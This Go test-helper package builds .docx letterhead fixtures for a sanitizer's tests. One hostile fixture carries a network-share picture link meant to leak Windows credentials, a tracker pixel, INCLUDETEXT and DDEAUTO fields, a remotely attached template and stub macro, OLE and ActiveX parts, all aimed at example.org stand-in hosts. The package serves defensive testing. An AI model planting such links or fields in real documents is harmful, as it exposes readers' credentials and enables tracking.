// Package lhtest builds letterhead .docx files for tests, from the parts
// of the sample letterhead (samples/letterhead/letterhead.docx, made with
// LibreOffice): one that carries everything a letter must not (Hostile),
// and ones that letterhead.Open must refuse (Broken). The tests of
// internal/letterhead, casefile, drafts and the redress command share
// them, so that each layer is tested on the same files.
//
// Its place in the pipeline: none; only tests import it.
package lhtest

import (
	"archive/zip"
	"bytes"
	"io"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"testing"
)

// SamplePath is the sample letterhead's path.
func SamplePath(t testing.TB) string {
	t.Helper()
	_, file, _, ok := runtime.Caller(0)
	if !ok {
		t.Fatal("lhtest: cannot find the sample letterhead")
	}
	return filepath.Join(filepath.Dir(file), "..", "..", "..", "samples", "letterhead", "letterhead.docx")
}

// Sample returns the sample letterhead's parts, by name.
func Sample(t testing.TB) map[string][]byte {
	t.Helper()
	data, err := os.ReadFile(SamplePath(t))
	if err != nil {
		t.Fatal(err)
	}
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	parts := map[string][]byte{}
	for _, f := range zr.File {
		rc, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		b, err := io.ReadAll(rc)
		rc.Close()
		if err != nil {
			t.Fatal(err)
		}
		parts[f.Name] = b
	}
	return parts
}

// Zip packs parts into a .docx, [Content_Types].xml first and the rest
// in name order.
func Zip(t testing.TB, parts map[string][]byte) []byte {
	t.Helper()
	names := make([]string, 0, len(parts))
	for n := range parts {
		if n != contentTypes {
			names = append(names, n)
		}
	}
	slices.Sort(names)
	if _, ok := parts[contentTypes]; ok {
		names = append([]string{contentTypes}, names...)
	}
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	for _, n := range names {
		w, err := zw.Create(n)
		if err != nil {
			t.Fatal(err)
		}
		w.Write(parts[n])
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

const contentTypes = "[Content_Types].xml"

// Edit returns the sample's parts changed by edit, zipped.
func Edit(t testing.TB, edit func(parts map[string][]byte)) []byte {
	t.Helper()
	parts := Sample(t)
	edit(parts)
	return Zip(t, parts)
}

// replace replaces old by new in a part, which must hold old.
func replace(t testing.TB, parts map[string][]byte, name, old, new string) {
	t.Helper()
	s := string(parts[name])
	if !strings.Contains(s, old) {
		t.Fatalf("lhtest: %s lacks %q", name, old)
	}
	parts[name] = []byte(strings.Replace(s, old, new, 1))
}

// addRels adds relationships to a part's .rels (creating it).
func addRels(parts map[string][]byte, rels, rel string) {
	s := string(parts[rels])
	if s == "" {
		s = `<?xml version="1.0" encoding="UTF-8"?>` + "\n" + `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>`
	}
	i := strings.LastIndex(s, "</Relationships>")
	parts[rels] = []byte(s[:i] + rel + s[i:])
}

const relBase = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"

// Kept is text of Hostile's header that must stay in a letter: the text
// that the fields it loses last showed, and a link's text.
var Kept = []string{"Seal of the firm", "Est. 1999", "Visit our site"}

// Traces are strings of Hostile's dangerous parts, none of which may
// appear in any part of a document built on it, nor in its zip's names.
var Traces = []string{
	"vbaProject", "vbaData", "macroEnabled", "vnd.ms-",
	"fileserver.example.org", "tracker.example.org", "links.example.org", "templates.example.org",
	"INCLUDEPICTURE", "INCLUDETEXT", "DDEAUTO", "OLEObject", "oleObject", "activeX", "w:control", "w:object",
	"TargetMode", "file:///", `\\`, "r:link", "o:href",
}

// Dropped are words that Letterhead.Dropped must hold for Hostile.
var Dropped = []string{
	"macros (word/vbaData.xml, word/vbaProject.bin)", "a link to \\\\fileserver.example.org\\share\\seal.png", "a link to http://tracker.example.org/pixel.png",
	"an INCLUDEPICTURE field (word/header1.xml)", "an INCLUDETEXT field", "a DDEAUTO field",
	"an embedded object word/embeddings/oleObject1.bin", "an ActiveX control word/activeX/activeX1.xml",
	"a link to https://links.example.org/",
}

// Hostile is the sample letterhead with what an office's letterhead may
// carry and no letter may: a macro project (referred to from the
// document and, as no real file would, from the header), its header
// showing a picture from a network share (\\server\share, whose fetch
// offers the reader's Windows credentials) and one from a web server, a
// picture that is only a link, an INCLUDEPICTURE, an INCLUDETEXT and a
// DDEAUTO field, an embedded OLE object, an ActiveX control, a link to a
// web page, and settings that attach a template from the web. Its header
// also keeps a PAGE field, which must stay.
func Hostile(t testing.TB) []byte {
	t.Helper()
	return Edit(t, func(p map[string][]byte) {
		const hdr = "word/header1.xml"
		const hdrRels = "word/_rels/header1.xml.rels"
		// Macros, marked as a macro-enabled document.
		p["word/vbaProject.bin"] = []byte("\xd0\xcf\x11\xe0 not really a macro project")
		p["word/vbaData.xml"] = []byte(`<?xml version="1.0" encoding="UTF-8"?><wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>`)
		p["word/_rels/vbaProject.bin.rels"] = []byte(`<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/wordVbaData" Target="vbaData.xml"/></Relationships>`)
		addRels(p, "word/_rels/document.xml.rels", `<Relationship Id="rId90" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>`)
		addRels(p, hdrRels, `<Relationship Id="rId90" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>`)
		replace(t, p, contentTypes, `<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>`,
			`<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>`+
				`<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>`+
				`<Override PartName="/word/vbaData.xml" ContentType="application/vnd.ms-word.vbaData+xml"/>`+
				`<Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>`+
				`<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>`)
		// The header's links and objects.
		addRels(p, hdrRels,
			`<Relationship Id="rId3" Type="`+relBase+`image" Target="\\fileserver.example.org\share\seal.png" TargetMode="External"/>`+
				`<Relationship Id="rId4" Type="`+relBase+`image" Target="http://tracker.example.org/pixel.png" TargetMode="External"/>`+
				`<Relationship Id="rId5" Type="`+relBase+`image" Target="file:///C:/Users/Public/seal.png" TargetMode="External"/>`+
				`<Relationship Id="rId6" Type="`+relBase+`oleObject" Target="embeddings/oleObject1.bin"/>`+
				`<Relationship Id="rId7" Type="`+relBase+`control" Target="activeX/activeX1.xml"/>`+
				`<Relationship Id="rId8" Type="`+relBase+`hyperlink" Target="https://links.example.org/" TargetMode="External"/>`)
		p["word/embeddings/oleObject1.bin"] = []byte("\xd0\xcf\x11\xe0 not really an OLE object")
		p["word/activeX/activeX1.xml"] = []byte(`<?xml version="1.0" encoding="UTF-8"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>`)
		// The logo's picture also links to a web server (Word's "Insert
		// and Link").
		replace(t, p, hdr, `<a:blip r:embed="rId1">`, `<a:blip r:embed="rId1" r:link="rId4">`)
		const (
			run   = `<w:r><w:t xml:space="preserve">`
			unrun = `</w:t></w:r>`
			begin = `<w:r><w:fldChar w:fldCharType="begin"/></w:r>`
			sep   = `<w:r><w:fldChar w:fldCharType="separate"/></w:r>`
			end   = `<w:r><w:fldChar w:fldCharType="end"/></w:r>`
		)
		instr := func(s string) string { return `<w:r><w:instrText xml:space="preserve">` + s + `</w:instrText></w:r>` }
		extra := `<w:p><w:pPr><w:pStyle w:val="Header"/></w:pPr>` +
			begin + instr(` INCLUDEPICTURE "\\\\fileserver.example.org\\share\\seal.png" \d `) + sep + run + `Seal of the firm` + unrun + end +
			run + ` · page ` + unrun + begin + instr(` PAGE `) + sep + run + `1` + unrun + end +
			`</w:p>` +
			`<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;http://templates.example.org/boilerplate.docx&quot; "><w:r><w:t>Est. 1999</w:t></w:r></w:fldSimple>` +
			begin + instr(` DDEAUTO "C:\\Program Files\\Office\\App" "topic" `) + end +
			`<w:hyperlink r:id="rId8"><w:r><w:t>Visit our site</w:t></w:r></w:hyperlink></w:p>` +
			`<w:p><w:r><w:pict><v:shape id="seal" style="width:10pt;height:10pt"><v:imagedata r:id="rId3" o:href="\\fileserver.example.org\share\seal.png"/></v:shape></w:pict></w:r>` +
			`<w:r><w:drawing><wp:inline><wp:extent cx="127000" cy="127000"/><wp:docPr id="7" name="Linked"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="7" name="Linked"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="rId5"/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>` +
			`<w:r><w:object><v:shape id="ole1" style="width:10pt;height:10pt"><v:imagedata r:id="rId1"/></v:shape><o:OLEObject Type="Embed" ProgID="Package" ShapeID="ole1" DrawAspect="Icon" ObjectID="_1" r:id="rId6"/></w:object></w:r>` +
			`<w:r><w:pict><v:shape id="ax1" style="width:10pt;height:10pt"/><w:control r:id="rId7" w:name="CheckBox1" w:shapeid="ax1"/></w:pict></w:r></w:p>`
		replace(t, p, hdr, `</w:hdr>`, extra+`</w:hdr>`)
		// A template attached from the web, in the settings (which
		// redress never takes).
		replace(t, p, "word/settings.xml", `</w:settings>`, `<w:attachedTemplate r:id="rId1"/></w:settings>`)
		replace(t, p, "word/settings.xml", `<w:settings `, `<w:settings xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" `)
		addRels(p, "word/_rels/settings.xml.rels", `<Relationship Id="rId1" Type="`+relBase+`attachedTemplate" Target="https://templates.example.org/firm.dotm" TargetMode="External"/>`)
	})
}

// Bad is a letterhead letterhead.Open refuses, and words its message
// must hold.
type Bad struct {
	Name  string
	DOCX  []byte
	Wants []string
}

// Broken are letterheads that a look at the zip passes (it is one, with
// word/document.xml) and that drafting could not build on: the cases
// where `redress validate` once said "valid" and drafting then failed.
func Broken(t testing.TB) []Bad {
	t.Helper()
	const hdr = "word/header1.xml"
	encrypted := append([]byte{0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1}, make([]byte, 504)...)
	encrypted = append(encrypted, []byte("E\x00n\x00c\x00r\x00y\x00p\x00t\x00e\x00d\x00P\x00a\x00c\x00k\x00a\x00g\x00e\x00")...)
	return []Bad{
		{"header missing", Edit(t, func(p map[string][]byte) { delete(p, hdr) }),
			[]string{"its header word/header1.xml is missing"}},
		{"picture missing", Edit(t, func(p map[string][]byte) { delete(p, "word/media/image1.png") }),
			[]string{"word/media/image1.png", "which its header word/header1.xml refers to, is missing"}},
		{"header malformed", Edit(t, func(p map[string][]byte) { p[hdr] = p[hdr][:len(p[hdr])-20] }),
			[]string{"its header word/header1.xml is not well-formed XML"}},
		{"no header in the section", Edit(t, func(p map[string][]byte) {
			replace(t, p, "word/document.xml", `<w:headerReference w:type="default" r:id="rId2"/><w:footerReference w:type="default" r:id="rId3"/>`, "")
		}), []string{"no header and no footer"}},
		{"header reference to nothing", Edit(t, func(p map[string][]byte) {
			replace(t, p, "word/document.xml", `<w:headerReference w:type="default" r:id="rId2"/>`, `<w:headerReference w:type="default" r:id="rId42"/>`)
		}), []string{`relationship "rId42"`, "word/_rels/document.xml.rels lacks"}},
		{"encrypted", encrypted, []string{"protected with a password"}},
		{"strict", Edit(t, func(p map[string][]byte) {
			replace(t, p, "_rels/.rels", "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument",
				"http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument")
		}), []string{"Strict Open XML"}},
		{"header prefix", Edit(t, func(p map[string][]byte) {
			p[hdr] = []byte(`<x:hdr xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><x:p/></x:hdr>`)
		}), []string{"prefix other than w"}},
		{"DOCTYPE in the header", Edit(t, func(p map[string][]byte) {
			replace(t, p, hdr, "<w:hdr ", `<!DOCTYPE w:hdr [<!ENTITY x "y">]><w:hdr `)
		}), []string{"DOCTYPE"}},
		{"margins", Edit(t, func(p map[string][]byte) {
			replace(t, p, "word/document.xml", `w:left="1584"`, `w:left="11000"`)
		}), []string{"text area"}},
		{"style in a style", Edit(t, func(p map[string][]byte) {
			replace(t, p, "word/styles.xml", `</w:style>`, `<w:style w:type="paragraph" w:styleId="Inner"/></w:style>`)
		}), []string{"inside another"}},
		{"part too large", Edit(t, func(p map[string][]byte) {
			p["word/media/image1.png"] = append(append([]byte{}, p["word/media/image1.png"]...), make([]byte, 5<<20)...)
		}), []string{"word/media/image1.png", "more than 4 MiB unpacked"}},
		{"header too large", Edit(t, func(p map[string][]byte) {
			para := `<w:p><w:r><w:t>` + strings.Repeat("Lakeshore Immigrant Rights Clinic ", 20) + `</w:t></w:r></w:p>`
			replace(t, p, hdr, "</w:hdr>", strings.Repeat(para, 2<<20/len(para))+"</w:hdr>")
		}), []string{"has a header (word/header1.xml) of 2.0 MiB", "at most 1 MiB"}},
		{"too many parts", Edit(t, func(p map[string][]byte) {
			for i := range 300 {
				p["customXml/item"+string(rune('a'+i%26))+strings.Repeat("x", i/26)+".xml"] = []byte("<x/>")
			}
		}), []string{"zip of 313 files"}},
	}
}
